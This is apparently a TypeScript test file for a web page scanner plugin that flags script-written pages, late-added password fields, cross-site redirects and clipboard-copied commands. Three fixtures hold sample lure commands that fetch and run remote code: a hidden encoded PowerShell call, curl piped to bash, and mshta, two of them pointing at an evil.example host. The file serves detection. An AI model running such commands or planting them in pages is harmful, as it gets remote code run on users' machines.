import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import rendered from '../../plugins/rendered/index.ts'
import type { Evidence } from '../../src/engine/plugin.ts'
import { documentOf } from '../../src/testing/page_of.ts'
import { EXAMPLE, engineOf, settings } from '../engine/engine_of.ts'

type Rendered = Evidence['rendered']

const URL = 'https://example.com/'
const nothing = { words: 0, fields: 0, passwords: 0, buttons: 0 }
const visit = { url: URL, by: 'visit' } as const

const plain: Rendered = {
  why: 'needed',
  url: URL,
  status: 200,
  title: 'A page',
  navigations: [visit],
  document: documentOf({}),
  drawn: nothing,
  served: nothing,
  served_url: URL,
  served_scripts: 1,
  alike: null,
  requests: 1,
  hosts: [{ host: 'example.com', requests: 1, octets: 900, types: { document: 1 } }],
  refused: [],
  received: 1_200,
  sent: 300,
  spent: null,
  console_errors: 0,
  downloads: [],
  dialogs: [],
  copied: [],
  settled: true,
  screenshots: [],
  took_ms: 900,
}

const drawn = (words: number, passwords = 0) => ({ words, fields: passwords, passwords, buttons: passwords })
const copied = (text: string): Partial<Rendered> => ({ copied: [text] })

const table: readonly (readonly [title: string, seen: Partial<Rendered>, signals: readonly string[]])[] = [
  ['nothing of a page that scripts do not change', { served: drawn(90), drawn: drawn(90), alike: 1 }, []],
  ['who writes a page that shows nothing before', { drawn: drawn(90) }, ['written_by_scripts']],
  ['a password field that a script adds', { served: drawn(90), drawn: drawn(90, 1) }, ['form_after_scripts']],
  ['no password field that was there before', { served: drawn(90, 1), drawn: drawn(90, 1) }, []],
  ['a command for PowerShell', copied('powershell -w hidden -enc SQBFAFgA'), ['copies_command']],
  ['a command that fetches a script', copied('curl -s https://evil.example/i.sh | bash'), ['copies_command']],
  ['a command for the Run dialog', copied('cmd /c start /min mshta https://evil.example/v'), ['copies_command']],
  ['no address that is copied', copied('https://example.com/share?id=1'), []],
  ['no sentence about a program', copied('PowerShell is a shell'), []],
  [
    'a script that leads to another site',
    { navigations: [visit, { url: 'https://other.test/', by: 'script' }] },
    ['leaves_by_script'],
  ],
  ['no script that stays', { navigations: [visit, { url: 'https://www.example.com/app', by: 'script' }] }, []],
  [
    'no redirect of HTTP within the site',
    { navigations: [visit, { url: 'https://www.example.com/', by: 'redirect' }] },
    [],
  ],
  [
    'a redirect of HTTP to another site that only a browser gets',
    { navigations: [visit, { url: 'https://other.test/', by: 'redirect' }] },
    ['shows_browsers_another_page'],
  ],
  [
    'no redirect that this service got as well',
    { navigations: [visit, { url: 'https://other.test/', by: 'redirect' }], served_url: 'https://other.test/' },
    [],
  ],
  [
    'another page without a script',
    { served: drawn(90), drawn: drawn(90), served_scripts: 0, alike: 0.05 },
    ['shows_browsers_another_page'],
  ],
  ['no other words that a script may have written', { served: drawn(90), drawn: drawn(90), alike: 0.05 }, []],
  ['no short page', { served: drawn(9), drawn: drawn(9), served_scripts: 0, alike: 0.05 }, []],
  ['no page with words in common', { served: drawn(90), drawn: drawn(90), served_scripts: 0, alike: 0.4 }, []],
]

describe('rendered', () => {
  for (const [title, seen, signals] of table) {
    it(`reports ${title}`, async () => {
      const evidence = { rendered: { ...plain, ...seen } }
      const on = settings({ rendered: true })
      const { result } = await engineOf([rendered], { evidence, settings: on }).check(EXAMPLE)
      const details = result['signal_details'] as readonly { readonly id: string }[]
      assert.deepEqual(
        details.map(({ id }) => id),
        signals,
      )
    })
  }

  it('has everything in its section but the document', async () => {
    const on = settings({ rendered: true })
    const { result } = await engineOf([rendered], { evidence: { rendered: plain }, settings: on }).check(EXAMPLE)
    const { document: _, served_url: __, served_scripts: ___, ...section } = plain
    assert.deepEqual(result['rendered'], section)
  })

  it('is disabled by default', async () => {
    const { result } = await engineOf([rendered], { evidence: { rendered: plain } }).check(EXAMPLE)
    assert.ok(!('rendered' in result), 'no section')
  })
})
